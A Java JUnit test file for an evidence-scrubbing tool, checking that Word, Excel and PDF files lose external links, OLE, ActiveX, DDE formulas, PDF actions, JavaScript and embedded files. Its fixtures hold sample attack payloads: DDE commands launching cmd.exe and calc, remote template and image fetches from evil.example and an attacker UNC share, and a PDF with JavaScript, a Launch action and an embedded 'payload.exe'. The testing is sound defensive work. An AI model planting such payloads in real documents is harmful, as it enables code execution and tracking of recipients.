package org.sujarit.anonymizer.evidence;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObjectKey;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Nothing in a scrubbed file runs or reaches out when the legal officer opens it: no
 * external links, OLE objects, ActiveX, DDE fields or formulas, PDF actions, JavaScript
 * or embedded files.
 */
class ActiveContentTests {

	private static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

	private static final String R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

	private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

	private static final Pattern RELATIONSHIP = Pattern.compile("<Relationship [^>]*>");

	private final EvidenceScrubber scrubber = new EvidenceScrubber();

	@Test
	void wordDocumentLosesExternalLinksOleObjectsActiveXAndFieldsButKeepsWhatTheyShowed() {
		ScrubbedEvidence scrubbed = this.scrubber.scrub("a.docx", null, activeDocx(), 1);

		Map<String, byte[]> parts = EvidenceFiles.unzip(scrubbed.content());
		assertThat(parts.keySet()).contains("word/document.xml", "word/settings.xml")
			.noneMatch((name) -> name.contains("embeddings/") || name.contains("activeX/"));
		assertNothingReachesOut(parts);
		String document = text(parts, "word/document.xml");
		assertThat(document).doesNotContain("OLEObject", "w:control", "DDE", "INCLUDEPICTURE", "calc", "evil")
			.contains("ผลรวม 105,000", "ภาพหลักฐาน", "ลิงก์", "v:shape");
		assertThat(text(parts, "word/settings.xml")).doesNotContain("attachedTemplate");
		assertThat(text(parts, "[Content_Types].xml")).doesNotContain("activeX");
	}

	@Test
	void workbookLosesFormulasThatCallOtherProgramsAndLinksToOtherFiles() {
		ScrubbedEvidence scrubbed = this.scrubber.scrub("a.xlsx", null, activeXlsx(), 1);

		Map<String, byte[]> parts = EvidenceFiles.unzip(scrubbed.content());
		assertThat(parts.keySet()).contains("xl/worksheets/sheet1.xml")
			.noneMatch((name) -> name.contains("externalLinks/"));
		assertNothingReachesOut(parts);
		String sheet = text(parts, "xl/worksheets/sheet1.xml");
		assertThat(sheet).doesNotContain("cmd", "calc").contains("<f>SUM(B1:B2)</f>", "<v>105000</v>", "<v>0</v>");
		assertThat(text(parts, "xl/workbook.xml")).doesNotContain("externalReference");
	}

	@Test
	void pdfLosesItsActionsJavaScriptAndEmbeddedFiles() throws IOException {
		byte[] scrubbed = this.scrubber.scrub("a.pdf", null, activePdf(), 1).content();

		try (PDDocument document = Loader.loadPDF(scrubbed)) {
			assertThat(document.getNumberOfPages()).isEqualTo(1);
			COSDictionary catalog = document.getDocumentCatalog().getCOSObject();
			assertThat(catalog.containsKey(COSName.OPEN_ACTION)).isFalse();
			PDDocumentNameDictionary names = document.getDocumentCatalog().getNames();
			if (names != null) {
				assertThat(names.getJavaScript()).isNull();
				assertThat(names.getEmbeddedFiles()).isNull();
			}
			assertThat(document.getDocumentCatalog().getAcroForm().getCOSObject().containsKey(COSName.XFA)).isFalse();
			PDPage page = document.getPage(0);
			assertThat(page.getCOSObject().containsKey(COSName.AA)).isFalse();
			List<PDAnnotation> annotations = page.getAnnotations();
			assertThat(annotations).hasSize(2);
			for (PDAnnotation annotation : annotations) {
				assertThat(annotation.getCOSObject().containsKey(COSName.A)).isFalse();
			}
			// and nowhere else: no object of the file holds an action that runs or calls
			// out
			Set<String> active = Set.of("JavaScript", "Launch", "URI", "SubmitForm", "GoToR", "ImportData");
			for (COSObjectKey key : new ArrayList<>(document.getDocument().getXrefTable().keySet())) {
				COSBase object = document.getDocument().getObjectFromPool(key).getObject();
				if (object instanceof COSDictionary dictionary) {
					assertThat(dictionary.keySet()).doesNotContain(COSName.JS, COSName.AA, COSName.OPEN_ACTION,
							COSName.EF, COSName.EMBEDDED_FILES, COSName.XFA);
					COSName type = dictionary.getCOSName(COSName.S);
					assertThat((type != null) ? type.getName() : "").isNotIn(active);
				}
			}
		}
	}

	private static void assertNothingReachesOut(Map<String, byte[]> parts) {
		for (Map.Entry<String, byte[]> part : parts.entrySet()) {
			if (!part.getKey().endsWith(".rels")) {
				continue;
			}
			String base = part.getKey().replaceFirst("_rels/[^/]*$", "");
			Matcher relationship = RELATIONSHIP.matcher(new String(part.getValue(), StandardCharsets.UTF_8));
			while (relationship.find()) {
				String element = relationship.group();
				String target = attribute(element, "Target");
				if (element.contains("TargetMode=\"External\"")) {
					assertThat(target).as(part.getKey()).isEqualTo("about:blank");
				}
				else {
					assertThat(parts).as(part.getKey()).containsKey(base + target);
				}
			}
		}
	}

	private static String attribute(String element, String name) {
		Matcher value = Pattern.compile(" " + name + "=\"([^\"]*)\"").matcher(element);
		return value.find() ? value.group(1) : null;
	}

	private static String text(Map<String, byte[]> parts, String name) {
		return new String(parts.get(name), StandardCharsets.UTF_8);
	}

	private static byte[] activeDocx() {
		Map<String, String> parts = new LinkedHashMap<>();
		parts.put("[Content_Types].xml", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
				<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
				<Default Extension="xml" ContentType="application/xml"/>\
				<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>\
				<Override PartName="/word/document.xml" \
				ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>\
				<Override PartName="/word/settings.xml" \
				ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>\
				<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>\
				</Types>""");
		parts.put("_rels/.rels", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
				<Relationship Id="rId1" Type="%sofficeDocument" Target="word/document.xml"/></Relationships>"""
			.formatted(REL));
		parts.put("word/document.xml",
				"""
						<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
						<w:document xmlns:w="%1$s" xmlns:r="%2$s" xmlns:v="urn:schemas-microsoft-com:vml" \
						xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>\
						<w:p><w:hyperlink r:id="rId1"><w:r><w:t>ลิงก์</w:t></w:r></w:hyperlink></w:p>\
						<w:p><w:r><w:object><v:shape id="_x0000_i1025" style="width:10pt;height:10pt"/>\
						<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" r:id="rId2"/></w:object></w:r></w:p>\
						<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText>\
						</w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>\
						<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>ผลรวม 105,000</w:t></w:r>\
						<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>\
						<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d "><w:r>\
						<w:t>ภาพหลักฐาน</w:t></w:r></w:fldSimple></w:p>\
						<w:p><w:r><w:pict><w:control r:id="rId3" w:name="CommandButton1"/></w:pict></w:r></w:p>\
						</w:body></w:document>"""
					.formatted(W, R));
		parts.put("word/_rels/document.xml.rels", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
				<Relationship Id="rId1" Type="%1$shyperlink" Target="http://evil.example/track" TargetMode="External"/>\
				<Relationship Id="rId2" Type="%1$soleObject" Target="embeddings/oleObject1.bin"/>\
				<Relationship Id="rId3" Type="%1$scontrol" Target="activeX/activeX1.xml"/>\
				<Relationship Id="rId4" Type="%1$simage" Target="\\\\attacker\\share\\x.png" TargetMode="External"/>\
				<Relationship Id="rId5" Type="%1$ssettings" Target="settings.xml"/></Relationships>""".formatted(REL));
		parts.put("word/settings.xml", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<w:settings xmlns:w="%1$s" xmlns:r="%2$s"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/>\
				</w:settings>""".formatted(W, R));
		parts.put("word/_rels/settings.xml.rels", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
				<Relationship Id="rId1" Type="%sattachedTemplate" Target="http://evil.example/t.dotm" \
				TargetMode="External"/></Relationships>""".formatted(REL));
		parts.put("word/activeX/activeX1.xml", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" \
				ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1" \
				xmlns:r="%s"/>""".formatted(R));
		parts.put("word/activeX/_rels/activeX1.xml.rels", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
				<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/\
				activeXControlBinary" Target="activeX1.bin"/></Relationships>""");
		return EvidenceFiles.zip(parts,
				Map.of("word/embeddings/oleObject1.bin", "OLE calc.exe".getBytes(StandardCharsets.US_ASCII),
						"word/activeX/activeX1.bin", "ActiveX".getBytes(StandardCharsets.US_ASCII)));
	}

	private static byte[] activeXlsx() {
		String sml = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
		Map<String, String> parts = new LinkedHashMap<>();
		parts.put("[Content_Types].xml", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
				<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
				<Default Extension="xml" ContentType="application/xml"/>\
				<Override PartName="/xl/workbook.xml" \
				ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>\
				<Override PartName="/xl/externalLinks/externalLink1.xml" \
				ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>\
				</Types>""");
		parts.put("_rels/.rels", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
				<Relationship Id="rId1" Type="%sofficeDocument" Target="xl/workbook.xml"/></Relationships>"""
			.formatted(REL));
		parts.put("xl/workbook.xml", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<workbook xmlns="%1$s" xmlns:r="%2$s"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>\
				<externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>""".formatted(sml,
				R));
		parts.put("xl/_rels/workbook.xml.rels", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
				<Relationship Id="rId1" Type="%1$sworksheet" Target="worksheets/sheet1.xml"/>\
				<Relationship Id="rId2" Type="%1$sexternalLink" Target="externalLinks/externalLink1.xml"/>\
				</Relationships>""".formatted(REL));
		parts.put("xl/worksheets/sheet1.xml", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<worksheet xmlns="%s"><sheetData><row r="1"><c r="A1"><f>cmd|' /C calc'!A0</f><v>0</v></c>\
				<c r="B1"><f>SUM(B1:B2)</f><v>105000</v></c></row></sheetData></worksheet>""".formatted(sml));
		parts.put("xl/externalLinks/externalLink1.xml", """
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<externalLink xmlns="%s"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>"""
			.formatted(sml));
		return EvidenceFiles.zip(parts, Map.of());
	}

	private static byte[] activePdf() throws IOException {
		try (PDDocument document = new PDDocument()) {
			PDPage page = new PDPage(PDRectangle.A4);
			document.addPage(page);
			document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('opened')"));
			PDPageAdditionalActions pageActions = page.getActions();
			pageActions.setO(new PDActionJavaScript("app.launchURL('http://evil.example/seen')"));
			PDActionLaunch launch = new PDActionLaunch();
			launch.setFile(new PDSimpleFileSpecification(new COSString("calc.exe")));
			PDAnnotationLink launchLink = new PDAnnotationLink();
			launchLink.setRectangle(new PDRectangle(10, 10, 50, 20));
			launchLink.setAction(launch);
			PDActionURI uri = new PDActionURI();
			uri.setURI("http://evil.example/track");
			PDAnnotationLink uriLink = new PDAnnotationLink();
			uriLink.setRectangle(new PDRectangle(10, 40, 50, 20));
			uriLink.setAction(uri);
			page.getAnnotations().add(launchLink);
			page.getAnnotations().add(uriLink);

			PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
			PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
			scripts.setNames(Map.of("start", new PDActionJavaScript("app.alert('start')")));
			names.setJavascript(scripts);
			PDComplexFileSpecification attached = new PDComplexFileSpecification();
			attached.setFile("payload.exe");
			attached.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(new byte[] { 'M', 'Z' })));
			PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
			files.setNames(Map.of("payload.exe", attached));
			names.setEmbeddedFiles(files);
			document.getDocumentCatalog().setNames(names);

			PDAcroForm form = new PDAcroForm(document);
			form.getCOSObject().setItem(COSName.XFA, new COSString("<xdp:xdp/>"));
			document.getDocumentCatalog().setAcroForm(form);

			ByteArrayOutputStream out = new ByteArrayOutputStream();
			document.save(out);
			return out.toByteArray();
		}
	}

}
